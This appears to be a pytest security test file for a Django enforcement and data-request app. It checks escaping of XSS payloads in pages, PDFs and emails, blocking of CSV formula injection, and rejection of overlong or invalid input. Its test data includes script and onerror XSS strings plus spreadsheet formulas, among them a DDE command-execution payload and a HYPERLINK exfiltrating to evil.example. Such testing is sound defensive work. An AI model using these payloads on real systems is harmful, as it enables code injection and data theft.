"""Hostile text (issue 8): HTML and script in every text field, shown escaped on every page that
shows it, literally in PDFs, and neutralised in CSV exports (formula injection); very long
values and invalid dates and currencies get clear 400s or form errors, never a 500.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from tests.security.conftest import World

pytestmark = pytest.mark.django_db


def payload(field: str) -> str:
    """A different payload per field, so each field is traced to the page that shows it."""
    return f'<script>alert("{field}")</script><img src=x onerror=alert(1)>"\'&'


RAW_MARKERS = ("<script>alert(", "<img src=x onerror")


def put_payloads(w: World) -> dict[str, str]:
    """Write a payload into every text field that a page, letter or report shows (as a form, the
    API or an import would store it: text is stored as typed and escaped on output)."""
    from biometrics.models import Customer, SourcePhoto
    from compliance.models import DataSubjectRequest, ErasureRecipient, RequestMessage
    from enforcement.models import (
        Appeal,
        AppealEvent,
        ArticleReference,
        Authority,
        Case,
        ComplianceCheck,
        Decision,
        Fine,
        Order,
        Respondent,
        Source,
    )
    from reports.models import GeneratedReport

    fields: dict[str, str] = {}

    def set_(model, pk, **names):
        values = {}
        for name in names:
            key = f"{model.__name__.lower()}.{name}"
            fields[key] = payload(key)
            values[name] = fields[key]
        model.objects.filter(pk=pk).update(**values)

    set_(Authority, w.authority.pk, name=1, short_name=1)
    set_(Respondent, w.respondent.pk, name=1, description=1, sector=1)
    for case in (w.published, w.unpublished):
        set_(
            Case,
            case.pk,
            title=1,
            summary=1,
            appeal_summary=1,
            public_notes=1,
            internal_notes=1,
            legal_framework_detail=1,
            origin_detail=1,
        )
    set_(Decision, w.decision.pk, reference=1, summary=1)
    set_(Fine, w.fine.pk, payment_note=1)
    set_(Order, w.order.pk, text=1, applies_to_detail=1)
    check = ComplianceCheck.objects.create(order=w.order, checked_on=date(2024, 2, 1), complied=False, note="x")
    set_(ComplianceCheck, check.pk, note=1)
    set_(Appeal, w.appeal.pk, court=1)
    event = AppealEvent.objects.create(appeal=w.appeal, kind=AppealEvent.Kind.FILED, date=date(2024, 3, 1))
    set_(AppealEvent, event.pk, note=1)
    source = Source.objects.create(case=w.published, url="https://example.org/decision", title="x")
    set_(Source, source.pk, title=1)
    article = ArticleReference.objects.create(case=w.published, article=5, label="5(1)(a)")
    set_(ArticleReference, article.pk, note=1)
    set_(DataSubjectRequest, w.alice.request.pk, name=1)
    from compliance.workflow import handling, review

    for key, call in (
        (
            "request.extension_reason",
            lambda text: handling.request_extend_deadline(
                request=w.alice.request, user=w.users["staff"], months=1, reason=text
            ),
        ),
        (
            "request.identity_assessment_note",
            lambda text: review.identity_assess(
                request=w.alice.request, user=w.users["staff"], outcome="established", note=text
            ),
        ),
        (
            "request.refusal_reason",
            lambda text: handling.request_refuse(
                request=w.bob.request, user=w.users["staff"], basis="other", reason=text
            ),
        ),
    ):
        fields[key] = payload(key)
        call(fields[key])
    # A late refusal shows its reason to the requester (GDPR Art. 12(4)); as the service stores it.
    set_(DataSubjectRequest, w.bob.request.pk, late_refusal_reason=1)
    DataSubjectRequest.objects.filter(pk=w.bob.request.pk).update(refused_late=True)
    message = RequestMessage.objects.filter(request=w.alice.request).first()
    set_(RequestMessage, message.pk, body=1)
    customer = Customer.objects.get()
    set_(Customer, customer.pk, name=1)
    from biometrics.models import SearchEvent, SearchResult

    search = SearchEvent.objects.create(customer=customer, reference="x")
    SearchResult.objects.create(
        search=search, face=w.face, face_ref=w.face.pk, photo_public_id=w.photo.public_id, photo_sha256=w.photo.sha256
    )
    set_(SearchEvent, search.pk, reference=1)
    set_(ErasureRecipient, w.alice.recipient.pk, customer_name=1)
    set_(SourcePhoto, w.photo.pk, source_domain=1)
    set_(GeneratedReport, w.report.pk, title=1)
    key = "generatedreport.parameters"
    fields[key] = payload(key)
    GeneratedReport.objects.filter(pk=w.report.pk).update(parameters={"query": fields[key]})
    return fields


def html_pages(w: World) -> list[tuple[str, str]]:
    """(role, path) of every page that shows one of the fields above."""
    pub, req = w.published.public_id, w.alice.request.public_id
    staff_pages = [
        "/",
        reverse("enforcement:dashboard"),
        reverse("enforcement:case_list"),
        reverse("enforcement:case_list") + "?q=%3Cscript%3Ealert(%22query%22)%3C/script%3E",
        reverse("enforcement:case_detail", args=[pub]),
        reverse("enforcement:case_detail", args=[w.unpublished.public_id]),
        reverse("enforcement:case_edit", args=[pub]),
        reverse("enforcement:fine_edit", args=[pub, w.fine.pk]),
        reverse("enforcement:order_edit", args=[pub, w.order.pk]),
        reverse("compliance:queue"),
        reverse("compliance:request_detail", args=[req]),
        reverse("answering:review", args=[req]),
        reverse("biometrics:store"),
        reverse("biometrics:photo_list"),
        reverse("biometrics:photo_detail", args=[w.photo.public_id]),
        reverse("biometrics:face_detail", args=[w.photo.public_id, w.face.pk]),
        reverse("reports:list"),
        reverse("reports:detail", args=[w.report.public_id]),
        f"/api/v1/cases/{pub}/",  # the browsable API (HTML)
        f"/api/v1/decisions/{w.decision.public_id}/",
    ]
    public_pages = [
        reverse("enforcement:register"),
        reverse("enforcement:register") + "?q=%3Cscript%3Ealert(%22query%22)%3C/script%3E",
        reverse("enforcement:register_decisions"),
        reverse("enforcement:register_case", args=[pub]),
    ]
    # The requesters' own status pages (their sessions hold the grants of their links).
    citizen_pages = [
        ("citizen", reverse("compliance:status", kwargs={"public_id": req})),
        ("other_citizen", reverse("compliance:status", kwargs={"public_id": w.bob.request.public_id})),
        ("staff", reverse("compliance:request_detail", args=[w.bob.request.public_id])),
    ]
    return [("staff", p) for p in staff_pages] + [("anonymous", p) for p in public_pages] + citizen_pages


def test_html_and_script_are_escaped_on_every_page(world, role_clients):
    fields = put_payloads(world)
    shown: set[str] = set()
    failures = []
    for role, path in html_pages(world):
        response = role_clients[role].get(path, HTTP_ACCEPT="text/html")
        if response.status_code != 200:
            failures.append(f"{path}: {response.status_code}")
            continue
        html = response.content.decode()
        for marker in RAW_MARKERS:
            if marker in html:
                at = html.index(marker)
                failures.append(f"{path} ({role}) shows unescaped {html[max(0, at - 80) : at + 60]!r}")
        for key, value in fields.items():
            if escape(value) in html or escape(escape(value)) in html or json.dumps(value)[1:-1] in html:
                shown.add(key)
    assert not failures, "\n".join(failures)
    # Every field was really rendered somewhere (else the check above proved nothing for it).
    not_shown = sorted(set(fields) - shown)
    assert not not_shown, f"fields never shown on the pages checked: {not_shown}"


def test_public_pages_never_show_internal_notes(world, client):
    fields = put_payloads(world)
    for path in (
        reverse("enforcement:register"),
        reverse("enforcement:register_case", args=[world.published.public_id]),
        f"/api/v1/cases/{world.published.public_id}/",
    ):
        text = client.get(path).content.decode()
        assert escape(fields["case.internal_notes"]) not in text and "internal-note" not in text


def test_api_stores_markup_as_text_and_returns_it_as_json(staff_client, world):
    title = payload("api.title")
    response = staff_client.patch(
        f"/api/v1/cases/{world.published.public_id}/", {"title": title}, content_type="application/json"
    )
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    world.published.refresh_from_db()
    assert world.published.title == title  # stored as typed, escaped on output
    page = staff_client.get(reverse("enforcement:case_detail", args=[world.published.public_id])).content.decode()
    assert escape(title) in page and "<script>alert(" not in page


# --- PDFs -------------------------------------------------------------------------------------------


def _pdf_text(report) -> str:
    from tests.reports.conftest import pdf_text

    return pdf_text(report.file.path)


@pytest.mark.slow
def test_pdfs_print_markup_literally(world, staff_user):
    """weasyprint renders HTML: a payload must come out as the characters typed, not as markup."""
    from compliance.models import DocumentKind
    from compliance.workflow.documents import documents_issue
    from reports.models import ReportKind, ReportStatus
    from reports.services import report_request
    from tests.reports.conftest import has

    fields = put_payloads(world)
    report = report_request(
        kind=ReportKind.CASE_FILE, parameters={"case": str(world.published.public_id)}, user=staff_user
    )
    report.refresh_from_db()
    assert report.status == ReportStatus.DONE, report.last_error
    text = _pdf_text(report)
    for key in ("case.title", "case.summary", "authority.name", "respondent.name", "order.text"):
        assert has(text, fields[key]), f"{key} is not printed literally in the case file"

    reason = fields["request.refusal_reason"]  # Bob's request was refused with it in put_payloads
    # The refusal letter, issued from the refusal's facts (its task, run here).
    assert DocumentKind.REFUSAL_LETTER in documents_issue(request_id=world.bob.request.pk)
    letter = world.bob.request.documents.get(kind=DocumentKind.REFUSAL_LETTER)
    text = _pdf_text(letter)
    assert has(text, reason)
    assert has(text, fields["datasubjectrequest.late_refusal_reason"])


# --- CSV --------------------------------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = {
    "reference": "=cmd|' /C calc'!A0",
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "authority": "+SUM(1,2)",
    "respondent": "-2+3+cmd|' /C calc'!A0",
    "legal_framework_detail": "@SUM(A1:A9)",
}


def test_csv_export_neutralises_formula_injection(staff_client, db):
    """Every CSV writer in the code base: the case list export (enforcement/views/lists.py) is the
    only one (grep csv.writer); each prefix of OWASP's list is tried in a cell the user controls."""
    from tests.enforcement.factories import AuthorityFactory, CaseFactory, FineFactory, RespondentFactory

    cases = []
    for index, start in enumerate(FORMULA_STARTS):
        authority = AuthorityFactory(name=f"{start}1+1 authority {index}" if start in "\t\r" else FORMULAS["authority"])
        respondent = RespondentFactory(name=FORMULAS["respondent"])
        case = CaseFactory(
            reference=f"{start}ref-{index}" if index else FORMULAS["reference"],
            title=f"{start}title {index}" if index else FORMULAS["title"],
            authority=authority,
            respondent=respondent,
            legal_framework_detail=FORMULAS["legal_framework_detail"],
        )
        FineFactory(decision__case=case, amount=Decimal("10.00"))
        cases.append(case)
    response = staff_client.get(reverse("enforcement:case_list_csv"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert len(body) == len(cases)
    dangerous = [(header[i], cell) for row in body for i, cell in enumerate(row) if cell.startswith(FORMULA_STARTS)]
    assert not dangerous, dangerous
    cells = {cell for row in body for cell in row}
    assert "'" + FORMULAS["title"] in cells and "'" + FORMULAS["reference"] in cells
    assert "'" + FORMULAS["authority"] in cells and "'" + FORMULAS["respondent"] in cells
    assert any(cell.startswith("'\t") for cell in cells) and any(cell.startswith("'\r") for cell in cells)


def test_the_case_list_is_the_only_csv_writer():
    """If another CSV export appears, it must get the test above."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = []
    for path in root.glob("*/**/*.py"):
        if any(part in (".venv", "tests", "var", "benchmarks") for part in path.relative_to(root).parts):
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        if "csv.writer" in text or "csv.DictWriter" in text or "text/csv" in text:
            writers.append(str(path.relative_to(root)))
    assert writers == ["enforcement/views/lists.py"], writers


# --- long values --------------------------------------------------------------------------------------

LONG = "A" * 20_000


def test_request_form_refuses_very_long_values(client):
    response = client.post(
        "/requests/new/",
        {"request_type": "access", "name": LONG, "email": LONG + "@example.org", "country": LONG},
    )
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert {"name", "email", "country"} <= set(errors), errors


def test_api_refuses_very_long_values_with_field_errors(staff_client, world):
    checks = [
        ("post", "/api/v1/cases/", {"title": LONG, "reference": LONG}, {"title", "reference"}),
        ("patch", f"/api/v1/cases/{world.published.public_id}/", {"title": LONG}, {"title"}),
        ("post", "/api/v1/authorities/", {"name": LONG, "slug": LONG, "country": "NL"}, {"name", "slug"}),
        ("post", f"/api/v1/requests/{world.alice.request.public_id}/message/", {"body": LONG}, {"body"}),
        (
            "post",
            f"/api/v1/requests/{world.alice.request.public_id}/refuse/",
            {"basis": "other", "reason": LONG},
            {"reason"},
        ),
    ]
    for method, path, body, expected_fields in checks:
        response = getattr(staff_client, method)(path, body, content_type="application/json")
        assert response.status_code == 400, (path, response.status_code)
        assert expected_fields <= set(response.json()), (path, response.json())


def test_staff_forms_refuse_very_long_values(staff_client, world):
    url = reverse("compliance:request_action", args=[world.alice.request.public_id, "message"])
    response = staff_client.post(url, {"message-body": LONG})
    assert response.status_code == 400
    url = reverse("enforcement:case_edit", args=[world.published.public_id])
    response = staff_client.post(url, {"title": LONG, "reference": "x"})
    assert response.status_code == 400
    assert "title" in response.context["form"].errors


@pytest.mark.parametrize(
    "path",
    [
        "/enforcement/register/?q=" + LONG,
        "/enforcement/cases/?q=" + LONG,
        "/api/v1/cases/?q=" + LONG,
        "/requests/staff/?q=" + LONG,
        "/api/v1/requests/?q=" + LONG,
        "/biometrics/photos/?domain=" + LONG,
    ],
)
def test_very_long_query_strings_do_not_fail(path, staff_client):
    response = staff_client.get(path)
    assert response.status_code in (200, 400), response.status_code


# --- invalid dates and currencies -------------------------------------------------------------------

BAD_CURRENCIES = ["EURO", "eur", "XXX", "", "12", "€", "E U", "<b>"]
BAD_AMOUNTS = ["-5", "abc", "NaN", "Infinity", "-Infinity", "1e400", "12345678901234567890", "1,5", ""]
BAD_DATES = ["2023-02-30", "2023-13-01", "2023-00-10", "yesterday", "0000-01-01", "99999-12-31", "2023/02/01", "1"]


@pytest.mark.parametrize("currency", BAD_CURRENCIES)
def test_api_refuses_invalid_currencies(currency, staff_client, world):
    body = {"decision": str(world.decision.public_id), "amount": "100.00", "currency": currency}
    response = staff_client.post("/api/v1/fines/", body, content_type="application/json")
    assert response.status_code == 400 and "currency" in response.json(), response.content
    response = staff_client.patch(
        f"/api/v1/fines/{world.fine.public_id}/", {"currency": currency}, content_type="application/json"
    )
    assert response.status_code == 400 and "currency" in response.json(), response.content


@pytest.mark.parametrize("amount", BAD_AMOUNTS)
def test_api_refuses_invalid_amounts(amount, staff_client, world):
    body = {"decision": str(world.decision.public_id), "amount": amount, "currency": "EUR"}
    response = staff_client.post("/api/v1/fines/", body, content_type="application/json")
    assert response.status_code == 400 and "amount" in response.json(), response.content


@pytest.mark.parametrize("value", BAD_DATES)
def test_api_refuses_invalid_dates(value, staff_client, world):
    body = {"case": str(world.published.public_id), "kind": "fine", "decision_date": value}
    response = staff_client.post("/api/v1/decisions/", body, content_type="application/json")
    assert response.status_code == 400 and "decision_date" in response.json(), response.content
    for path in (
        f"/api/v1/decisions/?as_of={value}",
        f"/api/v1/penalty-payments/{world.penalty.public_id}/?as_of={value}",
        f"/api/v1/cases/?date_from={value}",
        f"/api/v1/decisions/?date_to={value}",
    ):
        response = staff_client.get(path)
        assert response.status_code in (200, 400), (path, response.status_code)
        if value and value != "1" and response.status_code == 200:
            pytest.fail(f"{path} accepted the invalid date {value!r}")


@pytest.mark.parametrize("value", BAD_DATES)
def test_html_filters_show_invalid_dates_as_errors(value, staff_client):
    for path in (
        f"/enforcement/cases/?date_from={value}",
        f"/enforcement/register/?date_to={value}",
        f"/enforcement/register/decisions/?date_from={value}",
        f"/requests/staff/?due_within={value}",
    ):
        response = staff_client.get(path)
        assert response.status_code in (200, 400), (path, response.status_code)


def test_staff_forms_refuse_invalid_money_and_dates(staff_client, world):
    pub = world.published.public_id
    url = reverse("enforcement:fine_edit", args=[pub, world.fine.pk])
    for data, field in (
        ({"amount": "100", "currency": "ZZZ", "payment_status": "paid"}, "currency"),
        ({"amount": "-1", "currency": "EUR", "payment_status": "paid"}, "amount"),
        ({"amount": "1e400", "currency": "EUR", "payment_status": "paid"}, "amount"),
        ({"amount": "NaN", "currency": "EUR", "payment_status": "paid"}, "amount"),
    ):
        response = staff_client.post(url, data)
        assert response.status_code == 400, data
        assert field in response.context["form"].errors, (data, response.context["form"].errors)
    url = reverse("enforcement:compliance_check_add", args=[pub, world.order.pk])
    for value in ("2023-02-30", "tomorrow", "99999-01-01"):
        response = staff_client.post(url, {"checked_on": value, "complied": "true"})
        assert response.status_code == 400
        assert "checked_on" in response.context["form"].errors
    url = reverse("compliance:request_action", args=[world.alice.request.public_id, "extend"])
    for months in ("3", "0", "abc", "-1"):
        response = staff_client.post(url, {"extend-months": months, "extend-reason": "complex case"})
        assert response.status_code in (302, 400)
        world.alice.request.refresh_from_db()
        assert world.alice.request.extension_months == 0


def test_report_period_with_invalid_dates_is_refused_with_a_message(staff_client):
    from reports.models import GeneratedReport

    response = staff_client.post(
        reverse("reports:export_audit"), {"audit-period_start": "2025-02-30", "audit-period_end": "2025-01-01"}
    )
    assert response.status_code == 302
    assert not GeneratedReport.objects.exists()
    page = staff_client.get(response["Location"])
    assert "could not be started" in page.content.decode()


def test_emails_escape_hostile_staff_messages(world, mailoutbox):
    """Emails are HTML too: the requester's name and staff messages are escaped there."""
    from django.core import mail

    from compliance.workflow import handling
    from core.models import OutboxEmail
    from core.outbox import outbox_send

    body = payload("email.message")
    message = handling.request_add_message(
        request=world.alice.request, user=world.users["staff"], body=body, visible_to_requester=True
    )
    # The message email is an outbox row sent on commit; in this test transaction, send it here.
    email = OutboxEmail.objects.get(kind="request.message", params__message_id=message.pk)
    assert outbox_send(email_id=email.pk) == "sent"
    assert mail.outbox
    html_parts = [
        content for email in mail.outbox for content, kind in getattr(email, "alternatives", []) if kind == "text/html"
    ]
    assert html_parts, "the message email has no HTML part"
    for html in html_parts:
        for marker in RAW_MARKERS:
            assert marker not in html
    assert any(escape(body) in html for html in html_parts), "the message is not in the email"


def test_api_errors_echo_input_only_as_json_or_escaped_html(client: Client):
    response = client.get("/api/v1/cases/?ordering=<script>alert(1)</script>")
    assert response.status_code in (200, 400)
    assert response["Content-Type"].startswith("application/json")  # not rendered as a page
    assert response["X-Content-Type-Options"] == "nosniff"
    browsable = client.get("/api/v1/cases/?ordering=<script>alert(1)</script>", HTTP_ACCEPT="text/html")
    assert browsable["Content-Type"].startswith("text/html")
    assert "<script>alert(1)" not in browsable.content.decode()


def test_the_request_form_redisplays_hostile_values_escaped(client):
    """A form re-displayed after an error shows what was typed inside escaped attributes."""
    name = payload("form.name")
    response = client.post(
        "/requests/new/", {"request_type": "access", "name": name, "email": '"><script>alert(2)</script>@x'}
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert escape(name) in html
    for marker in (*RAW_MARKERS, "<script>alert(2)"):
        assert marker not in html
